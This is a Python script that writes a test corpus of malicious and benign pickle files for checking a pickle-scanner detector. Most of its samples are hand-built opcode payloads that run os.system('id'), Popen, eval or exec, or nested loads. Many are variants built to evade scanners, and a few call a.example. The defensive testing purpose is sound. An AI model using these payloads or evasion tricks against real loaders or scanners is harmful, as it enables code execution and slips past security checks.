#!/usr/bin/env python3
"""Writes pickles that attack, and pickles that only look like it.

    make.py                 writes samples.json beside this file
    make.py --files FOLDER  writes FOLDER/malicious/* and FOLDER/benign/* for .ci/detect

Nothing is ever loaded here. Every sample is written opcode by opcode; the programs
call "id" or print. The classes of samples follow the published advisories on
pickle scanners (GHSA ids in the names of gadgets.json's groups) and the papers
"The Art of Hide and Seek" (exception-oriented programs) and PickleFuzzer.
"""
import base64
import io
import json
import os
import pickle
import struct
import sys
import zlib

import bypasses

P = lambda n: b"\x80" + bytes([n])
S = lambda s: b"\x8c" + bytes([len(s.encode())]) + s.encode()  # SHORT_BINUNICODE
X = lambda s: b"X" + struct.pack("<I", len(s.encode())) + s.encode()
C = lambda b: b"B" + struct.pack("<I", len(b)) + b  # BINBYTES
G = lambda m, n: b"c" + m.encode() + b"\n" + n.encode() + b"\n"
SG = lambda m, n: S(m) + S(n) + b"\x93"
T1, T2, T3, R, STOP = b"\x85", b"\x86", b"\x87", b"R", b"."
SYSTEM = G("os", "system") + b"S'id'\n" + T1 + R
SYSTEM4 = SG("os", "system") + S("id") + T1 + R

bad, good = {}, {}


def plain():
    for n in range(6):
        bad[f"system_p{n}"] = (P(n) if n > 1 else b"") + (SYSTEM4 if n > 3 else G("os", "system") + b"(S'id'\ntR") + STOP
    bad["posix_p0"] = G("posix", "system") + b"(S'id'\ntR."
    bad["nt"] = G("nt", "system") + b"(S'id'\ntR."
    bad["python2_builtin"] = G("__builtin__", "eval") + b"(S'1'\ntR."
    bad["python2_commands"] = P(2) + G("commands", "getoutput") + b"(S'id'\ntR."
    bad["python2_urlopen"] = P(2) + G("urllib", "urlopen") + b"(S'http://a.example/'\ntR."
    bad["python2_httplib"] = P(2) + G("httplib", "HTTPConnection") + b"(S'a.example'\ntR."
    bad["python2_execfile"] = G("__builtin__", "execfile") + b"(S'/tmp/x'\ntR."
    bad["referenced_only"] = G("os", "system") + STOP


def opcodes():
    bad["inst"] = b"(S'id'\nios\nsystem\n."
    bad["obj"] = b"(" + G("os", "system") + b"S'id'\no."
    bad["newobj"] = P(2) + G("subprocess", "Popen") + b"S'id'\n" + T1 + b"\x81."
    bad["newobj_ex"] = P(4) + SG("subprocess", "Popen") + S("id") + T1 + b"}\x92."
    bad["ext1"] = P(2) + G("copyreg", "add_extension") + b"(X\x02\x00\x00\x00osX\x06\x00\x00\x00systemK\x01tR0\x82\x01X\x02\x00\x00\x00id" + T1 + R + STOP
    bad["ext2"] = P(2) + b"\x83\x01\x02X\x02\x00\x00\x00id" + T1 + R + STOP
    bad["ext4"] = P(2) + b"\x84\x01\x02\x00\x00X\x02\x00\x00\x00id" + T1 + R + STOP
    bad["put_get"] = P(2) + X("os") + b"q\x05" + X("system") + b"q\x0600h\x05h\x06\x93" + X("id") + T1 + R + STOP
    bad["long_put_get"] = P(2) + X("os") + b"r\x05\x00\x01\x00" + b"0" + X("system") + b"r\x06\x00\x01\x000" + b"j\x05\x00\x01\x00j\x06\x00\x01\x00\x93" + X("id") + T1 + R + STOP
    bad["text_put_get"] = b"Vos\np5\n0Vsystem\np6\n0g5\ng6\n\x93Vid\n\x85R."
    bad["memo_put_after_pop"] = P(4) + S("os") + S("decoy") + b"0q\x00" + S("system") + S("decoy") + b"0q\x0100h\x00h\x01\x93" + S("id") + T1 + R + STOP
    bad["memoize_after_tuple"] = P(4) + b")\x940" + S("os") + b"\x940" + S("system") + b"\x940h\x01h\x02\x93" + S("id") + T1 + R + STOP
    bad["memo_overwritten"] = P(4) + S("json") + b"q\x000" + S("os") + b"q\x000h\x00" + S("system") + b"\x93" + S("id") + T1 + R + STOP
    bad["memo_of_global"] = P(2) + G("os", "system") + b"q\x000K\x01K\x02h\x00" + X("id") + T1 + R + STOP
    bad["dup"] = P(4) + S("os") + S("system") + b"\x932" + S("id") + T1 + R + STOP
    bad["pop_result"] = SYSTEM + b"0N."
    bad["pop_mark_result"] = b"(" + SYSTEM + b"1N."
    bad["proto_middle"] = P(4) + S("os") + P(2) + S("system") + P(5) + b"\x93" + S("id") + P(0) + T1 + R + STOP
    bad["frame_lies"] = P(4) + b"\x95\xff\xff\x00\x00\x00\x00\x00\x00" + SYSTEM4 + STOP
    bad["frame_zero"] = P(4) + b"\x95" + bytes(8) + SYSTEM4 + b"\x95" + bytes(8) + STOP
    hidden = (G("os", "system") + b"Vid\n" + T1 + R + b"(").ljust(261, b"N")
    bad["frame_straddled"] = P(5) + b"NV" + b"a" * 3000 + b"\n0(" + b"\x95" + struct.pack("<Q", 2) + b"B\x07\x01\x00\x00\x00\x00" + hidden + b"1."
    bad["long_unicode_names"] = P(4) + b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system\x93" + S("id") + T1 + R + STOP
    bad["short_binstring_names"] = b"U\x02osU\x06system\x93U\x02id\x85R."
    bad["escaped_names"] = b"V\\u006fs\nVsyst\\u0065m\n\x93Vid\n\x85R."
    bad["escaped_string"] = b"S'\\x6fs'\nS'sys\\164em'\n\x93S'id'\n\x85R."
    bad["text_numbers"] = b"I0x10\n0L1L\n0" + SYSTEM + STOP
    bad["bytes_operands"] = P(4) + C(b"os") + C(b"system") + b"\x930" + SYSTEM4 + STOP
    bad["number_operands"] = P(4) + b"K\x01K\x02\x930" + SYSTEM4 + STOP
    bad["bytearray_operands"] = P(5) + b"\x96" + struct.pack("<Q", 1) + b"a" + b"\x96" + struct.pack("<Q", 1) + b"b\x930" + SYSTEM4 + STOP
    bad["setitem_on_modules"] = P(4) + SG("sys", "modules") + S("os") + b"Ns."
    bad["build_on_class"] = P(4) + SG("collections", "OrderedDict") + b"N}" + S("update") + SG("os", "system") + b"s\x86b."
    bad["build_setstate"] = P(4) + SG("types", "SimpleNamespace") + b")\x81}" + S("__setstate__") + SG("os", "system") + b"sb" + S("id") + b"b."
    bad["build_setstate_slots"] = P(4) + SG("collections", "UserDict") + b")\x81N}" + S("__setstate__") + SG("os", "system") + b"s\x86b" + S("id") + b"b."
    bad["append_hook"] = P(4) + SG("collections", "UserDict") + b")\x81}" + S("append") + SG("os", "system") + b"sb" + S("id") + b"a."
    bad["add_hook"] = P(4) + SG("collections", "UserDict") + b")\x81}" + S("add") + SG("os", "system") + b"sb(" + S("id") + b"\x90."
    rv = SG("scipy.stats._continuous_distns", "norm_gen")
    text = lambda t: b"X" + struct.pack("<I", len(t)) + t.encode()
    bad["scipy_template"] = P(4) + rv + b")\x81}" + S("_parse_arg_template") + text("import os; os.system('id')") + b"sb."
    bad["scipy_template_default"] = P(4) + rv + b")\x81}" + S("_parse_arg_template") + text("\ndef _parse_args(self, a=print(1), loc=0, scale=1):\n    return (a), loc, scale\n") + b"sb."
    bad["statsmodels_formula"] = P(4) + SG("statsmodels.base.data", "PandasData") + b")\x81}(" + S("formula") + S("y ~ __import__('os').system('id')") + S("restore_model_spec") + b"\x88ub."
    bad["tensor_setitem"] = good_tensor()[:-1] + b"K\x05K\x06s."
    bad["persistent_callee"] = P(2) + b"X\x01\x00\x00\x00aQ0" + SYSTEM + STOP
    bad["deep_tuple_arguments"] = P(4) + SG("os", "system") + S("id") + b"\x85\x85\x85" + b"0" + S("id") + T1 + R + STOP


def streams():
    one = pickle.dumps({"a": 1}, 4)
    bad["second"] = one + SYSTEM4 + STOP
    bad["second_p0"] = one + SYSTEM + STOP
    bad["tenth"] = one * 9 + SYSTEM4 + STOP
    bad["after_garbage"] = one + b"\x00\xff\x13garbage" * 30 + P(4) + SYSTEM4 + STOP
    bad["after_garbage_p0"] = one + b"\x00\xff\x13garbage" * 30 + G("os", "system") + b"(S'id'\ntR."
    bad["after_garbage_inst"] = one + b"\x00\xff\x13garbage" * 30 + b"(S'id'\nios\nsystem\n."
    bad["after_padding"] = one + bytes(5000) + P(4) + SYSTEM4 + STOP
    bad["after_spaces"] = b"   \n" + P(4) + SYSTEM4 + STOP
    bad["no_stop"] = P(4) + SYSTEM4
    bad["broken_tail"] = P(4) + SYSTEM4 + b"\xff\xff\xff"
    bad["broken_length"] = P(4) + SYSTEM4 + b"B\xff\xff\xff\x7f"
    bad["negative_length"] = P(2) + SYSTEM + b"T\xff\xff\xff\xff"
    bad["third_broken"] = one + one + P(4) + SYSTEM4 + b"\xfe"
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03."
    info = pickle.dumps({"little_endian": True, "protocol_version": 1001, "type_sizes": {"int": 4}}, 2)
    bad["torch_fourth"] = magic + info + P(2) + SYSTEM + STOP + pickle.dumps([], 2)
    bad["torch_fifth"] = magic + info + pickle.dumps({}, 2) + P(2) + SYSTEM + STOP
    bad["torch_seventh"] = magic + info + pickle.dumps({}, 2) + pickle.dumps([], 2) + pickle.dumps(1, 2) + P(2) + SYSTEM + STOP
    bad["torch_forged_magic"] = P(2) + G("builtins", "eval") + X("MAGIC_NUMBER") + T1 + R + STOP + magic[14:] + info
    storage = P(2) + b"}X\x01\x00\x00\x00w(X\x07\x00\x00\x00storage" + G("torch", "FloatStorage") + b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x02NtQs."
    good["torch_legacy"] = magic + info + storage + pickle.dumps(["0"], 2) + struct.pack("<Q", 2) + b"\x80\x02co"[:4] + bytes(4)
    bad["torch_behind_storages"] = magic + info + storage + pickle.dumps(["0"], 2) + struct.pack("<Q", 2) + bytes(8) + P(2) + SYSTEM + STOP


def exceptions():
    # A program that has run its payload when it raises: the scanner stops, the code ran.
    tails = {"empty_stack": b"0000", "memo_miss": b"h\x77", "not_callable": b"K\x01K\x02R", "args_no_tuple": SG("builtins", "len") + b"K\x01R",
             "unhashable_key": b"}]K\x01s", "odd_dict": b"(K\x01d", "no_mark": b"t", "bad_int": b"Ixyz\n", "bad_float": b"Fxyz\n",
             "bad_quotes": b"Sabc\n", "missing_module": G("no_such_module_at_all", "f"), "missing_name": G("os", "no_such_name"),
             "bad_utf8": b"\x8c\x02\xff\xfe", "append_to_int": b"K\x01K\x02a", "build_on_int": b"K\x01}b", "protocol_9": P(9), "bad_put": b"pxyz\n",
             "ext_zero": b"\x82\x00", "persid": b"Pabc\n", "stop_empty": b"0.", "wrong_arguments": SG("builtins", "int") + b"NN\x86R",
             "raise": SG("builtins", "int") + S("x") + T1 + R, "exit": SG("builtins", "SystemExit") + b")R", "bytes_readonly": b"\x98"}
    for name, tail in tails.items():
        bad["exception_" + name] = P(4) + SYSTEM4 + tail + STOP
        if name not in ("missing_module",):
            bad["exception_before_" + name] = P(4) + tail + SYSTEM4 + STOP
    del bad["exception_before_stop_empty"]


def names():
    for module, name in [("torch", "serialization.os.system"), ("random", "_os.system"), ("builtins", "eval.__call__"), ("numpy", "os.system"),
                         ("tempfile", "_os.system"), ("json", "decoder.scanner.re.enum.sys.modules"), ("logging", "os.popen"),
                         ("collections", "abc.sys.modules"), ("torch", "storage.pickle.loads"), ("six.moves.builtins", "eval"),
                         ("sklearn.utils", "os.system"), ("datetime", "sys.modules"), ("torch.hub", "os.system"), ("pandas", "compat.sys.modules"),
                         ("builtins", "print.__class__.__base__.__subclasses__"), ("builtins", "object.__subclasses__"), ("collections", "OrderedDict.__init__.__globals__"),
                         ("builtins", "str.__class__.__mro__"), ("numpy", "ndarray.__reduce__"), ("shutil", "os.system"), ("multiprocessing", "util.spawnv_passfds"),
                         ("joblib", "_parallel_backends.os.system"), ("random", "_os"), ("torch", "os"), ("urllib", "request.urlopen"), ("xml", "sax.handler.os")]:
        bad[f"name_{module}_{name}".replace("__", "").replace(".", "-")] = P(4) + SG(module, name) + S("id") + T1 + R + STOP


def folded():
    ga = SG("builtins", "getattr")
    imp = SG("importlib", "import_module") + S("os") + T1 + R
    bad["import_getattr"] = P(4) + ga + imp + S("system") + T2 + R + S("id") + T1 + R + STOP
    bad["dunder_import"] = P(4) + ga + SG("builtins", "__import__") + S("os") + T1 + R + S("system") + T2 + R + S("id") + T1 + R + STOP
    bad["getattr_module"] = P(4) + ga + SG("random", "_os") + S("system") + T2 + R + S("id") + T1 + R + STOP
    bad["getattr_class"] = P(4) + ga + SG("collections", "OrderedDict") + S("__subclasses__") + T2 + R + b")R."
    bad["getattr_of_object"] = P(4) + ga + SG("collections", "OrderedDict") + b")R" + S("__class__") + T2 + R + STOP
    bad["getattr_computed"] = P(4) + ga + SG("collections", "OrderedDict") + SG("builtins", "str") + S("x") + T1 + R + T2 + R + b")R."
    bad["getattr_hidden_by_enum"] = P(4) + SG("re", "RegexFlag") + b"0" + ga + SG("re", "RegexFlag") + S("IGNORECASE") + T2 + R + b"0" + ga + SG("os", "path") + S("os") + T2 + R + STOP
    bad["attrgetter"] = P(4) + SG("operator", "attrgetter") + S("system") + T1 + R + SG("random", "_os") + T1 + R + S("id") + T1 + R + STOP
    bad["methodcaller"] = P(4) + SG("operator", "methodcaller") + S("system") + S("id") + T2 + R + SG("random", "_os") + T1 + R + STOP
    bad["partial"] = P(4) + SG("functools", "partial") + SG("os", "system") + S("id") + T2 + R + b")R."
    bad["partial_state"] = P(4) + SG("functools", "partial") + SG("builtins", "print") + T1 + b"\x81(" + SG("os", "system") + S("id") + T1 + b"}Ntb)R."
    bad["map"] = P(4) + SG("builtins", "list") + SG("builtins", "map") + SG("os", "system") + b"]" + S("id") + b"a\x86R\x85R."
    bad["reduce"] = P(4) + SG("functools", "reduce") + SG("builtins", "getattr") + b"(" + S("system") + b"t" + imp + T3 + R + STOP
    bad["resolve_name"] = P(4) + SG("pkgutil", "resolve_name") + S("os:system") + T1 + R + S("id") + T1 + R + STOP
    bad["resolve_dotted"] = P(4) + SG("pkgutil", "resolve_name") + S("os.system") + T1 + R + S("id") + T1 + R + STOP
    bad["reconstructor"] = G("copy_reg", "_reconstructor") + b"(" + G("subprocess", "Popen") + G("__builtin__", "object") + b"NtR."
    bad["newobj_function"] = P(2) + G("copyreg", "__newobj__") + G("subprocess", "Popen") + X("id") + T2 + R + STOP
    bad["rebuild_from_type"] = P(2) + G("torch._tensor", "_rebuild_from_type_v2") + b"(" + G("os", "system") + G("torch", "Tensor") + b"(X\x02\x00\x00\x00idtNtR."
    bad["type_three"] = P(4) + SG("builtins", "type") + S("A") + b")}" + S("__del__") + SG("os", "system") + b"s\x87R."
    bad["ufunc"] = P(2) + G("numpy.core", "_ufunc_reconstruct") + X("os") + X("system") + T2 + R + X("id") + T1 + R + STOP
    bad["hf_from_pretrained"] = P(4) + SG("transformers.models.auto.auto_factory", "getattribute_from_module") + SG("transformers", "utils") + S("x") + T2 + R + STOP
    bad["decode_exec"] = P(4) + SG("builtins", "exec") + SG("zlib", "decompress") + SG("base64", "b64decode") + S(base64.b64encode(zlib.compress(b"print(1)")).decode()) + T1 + R + T1 + R + T1 + R + STOP
    bad["marshal"] = P(4) + SG("types", "FunctionType") + SG("marshal", "loads") + C(b"\xe3abc") + T1 + R + b"}" + T2 + R + b")R."
    inner = P(4) + SYSTEM4 + STOP
    bad["nested_loads"] = P(4) + SG("pickle", "loads") + C(inner) + T1 + R + STOP
    bad["nested_load_from_bytes"] = P(2) + G("torch.storage", "_load_from_bytes") + C(inner) + T1 + R + STOP
    spelt = lambda b: b"X" + struct.pack("<I", len(b.decode("latin-1").encode())) + b.decode("latin-1").encode()
    enc = lambda b: G("_codecs", "encode") + spelt(b) + X("latin1") + T2 + R
    bad["nested_latin1"] = P(2) + G("torch.storage", "_load_from_bytes") + enc(P(2) + SYSTEM + STOP) + T1 + R + STOP
    bad["nested_latin1_long"] = P(2) + G("torch.storage", "_load_from_bytes") + enc(P(2) + SYSTEM + b"0" + b"K\xff0" * 1500 + b"N.") + T1 + R + STOP
    good["storage_latin1"] = P(2) + G("torch.storage", "_load_from_bytes") + enc(pickle.dumps([1, 2, b"\xff" * 9], 4)) + T1 + R + STOP
    good["storage_latin1_long"] = P(2) + G("torch.storage", "_load_from_bytes") + enc(P(2) + b"K\xff0" * 1500 + b"N.") + T1 + R + STOP
    bad["nested_twice"] = P(2) + G("torch.storage", "_load_from_bytes") + C(P(4) + SG("_pickle", "loads") + C(inner) + T1 + R + STOP) + T1 + R + STOP
    bad["bytesio_load"] = P(4) + SG("pickle", "load") + SG("_io", "BytesIO") + C(inner) + T1 + R + T1 + R + STOP
    bad["setattr"] = P(4) + SG("builtins", "setattr") + SG("collections", "OrderedDict") + S("x") + b"N\x87R."


def arrays():
    dtype = SG("numpy", "dtype") + S("f8") + b"\x89\x88\x87R(K\x03" + S("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    wrapper = lambda n: (SG("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + S("subclass") + SG("numpy", "ndarray") + S("shape") + b"K" + bytes([n])
                         + b"\x85" + S("order") + S("C") + S("dtype") + dtype + S("allow_mmap") + b"\x88" + S("numpy_array_alignment_bytes") + b"K\x10ub")
    data = b"\x03\xff\xff\xff" + struct.pack("<2d", 1, 2)
    good["joblib_array"] = P(4) + wrapper(2) + data + STOP
    bad["joblib_after_array"] = P(4) + b"(" + wrapper(2) + data + SYSTEM4 + b"t."
    bad["joblib_inside_array"] = P(4) + b"(" + wrapper(20) + b"\x00"[:0] + SYSTEM4 + b"t." + bytes(200)
    odtype = SG("numpy", "dtype") + S("O8") + b"\x89\x88\x87R(K\x03" + S("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb"
    bad["joblib_object_array"] = (P(4) + SG("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + S("shape") + b"K\x01\x85" + S("dtype") + odtype
                                  + b"ub" + P(4) + SYSTEM4 + STOP + STOP)


def bombs():
    t = P(4) + b")" + b"".join(b"\x940h" + bytes([i]) + b"h" + bytes([i]) + b"\x86" for i in range(40)) + b"\x940}h\x28Ns."
    bad["tuple_bomb"] = t
    bad["allocate"] = P(4) + SG("builtins", "bytearray") + b"\x8a\x06\x00\x00\x00\x00\x00\x10\x85R."


def harmless():
    data = {"a": [1, 2.5, None, True, "text", b"bytes", (1, 2), {3}, frozenset([4]), 2**70, -1], "b": "os.system('id')", "c": "cos\nsystem\n"}
    for n in range(6):
        good[f"data_p{n}"] = pickle.dumps(data, n)
    good["words"] = P(4) + S("os") + S("system") + b"\x86."
    good["nested_inert"] = P(4) + C(P(4) + SYSTEM4 + STOP) + STOP
    good["nested_inert_base64"] = P(4) + S(base64.b64encode(P(4) + SYSTEM4 + STOP).decode()) + STOP
    good["nested_inert_hex"] = P(4) + S((P(4) + SYSTEM4 + STOP).hex()) + STOP
    good["nested_inert_zlib"] = P(4) + C(zlib.compress(P(4) + SYSTEM4 + STOP)) + STOP
    good["storage_bytes"] = P(2) + G("torch.storage", "_load_from_bytes") + C(pickle.dumps([1, 2], 2)) + T1 + R + STOP
    good["enum_getattr"] = P(4) + SG("builtins", "getattr") + SG("re", "RegexFlag") + S("IGNORECASE") + T2 + R + STOP
    good["partial_harmless"] = P(4) + SG("functools", "partial") + SG("numpy", "clip") + T1 + R + b"(" + SG("numpy", "clip") + b"K\x00\x85}Ntb."
    good["ufunc_harmless"] = P(2) + G("numpy.core", "_ufunc_reconstruct") + X("numpy.core._multiarray_umath") + X("log1p") + T2 + R + STOP
    good["type_none"] = P(4) + SG("builtins", "type") + b"N\x85R."
    good["uuid"] = P(4) + SG("uuid", "UUID") + b")\x81}" + S("int") + b"K\x01sb."
    good["namespace"] = P(4) + SG("argparse", "Namespace") + b")\x81}" + S("lr") + b"G?\x84z\xe1G\xae\x14{sb."
    good["reconstructor_harmless"] = G("copy_reg", "_reconstructor") + b"(" + G("datetime", "date") + G("__builtin__", "object") + b"NtR."
    good["several"] = pickle.dumps(1, 2) + pickle.dumps("two", 0) + pickle.dumps([3], 4)
    good["padding"] = pickle.dumps(1, 2) + bytes(1000)
    l = []
    l.append(l)
    good["in_itself"] = pickle.dumps(l, 2)
    good["laughs_of_lists"] = P(4) + b"]" + b"".join(b"\x940](h" + bytes([i]) + b"h" + bytes([i]) + b"e" for i in range(40)) + STOP
    good["tensor"] = good_tensor()
    good["getters"] = P(4) + SG("operator", "itemgetter") + S("a") + T1 + R + SG("operator", "attrgetter") + S("shape") + T1 + R + b"\x86."


def good_tensor():
    return (P(2) + G("torch._utils", "_rebuild_tensor_v2") + b"((X\x07\x00\x00\x00storage" + G("torch", "FloatStorage") + b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x06tQK\x00"
            + b"K\x02K\x03\x86K\x03K\x01\x86\x89" + G("collections", "OrderedDict") + b")RtR.")


GADGETS = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "gadgets.json")))


def gadgets():
    for g in GADGETS:
        module, name = g.split(" ")
        if name in ("itemgetter", "attrgetter"):  # which get nothing before they are called
            continue
        bad["gadget_" + g.replace(" ", "_")] = P(4) + SG(module, name) + S("id") + T1 + R + STOP


for make in (plain, opcodes, streams, exceptions, names, folded, arrays, bombs, harmless):
    make()
bad.update((n, d) for n, d in bypasses.bad.items() if n not in bad)

if __name__ == "__main__":
    if sys.argv[1:2] == ["--files"]:
        gadgets()
        for folder, samples in (("malicious", bad), ("benign", good)):
            os.makedirs(os.path.join(sys.argv[2], folder), exist_ok=True)
            for name, data in samples.items():
                ending = ".joblib" if name.startswith("joblib") else ".pkl"
                with open(os.path.join(sys.argv[2], folder, name + ending), "wb") as f:
                    f.write(data)
    else:
        text = {k: {n: base64.b64encode(d).decode() for n, d in sorted(v.items())} for k, v in (("malicious", bad), ("benign", good), ("own", bypasses.own))}
        with io.open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "samples.json"), "w", encoding="utf-8") as f:
            json.dump(text, f, indent=0)
            f.write("\n")
        print(len(bad), "malicious,", len(good), "benign")
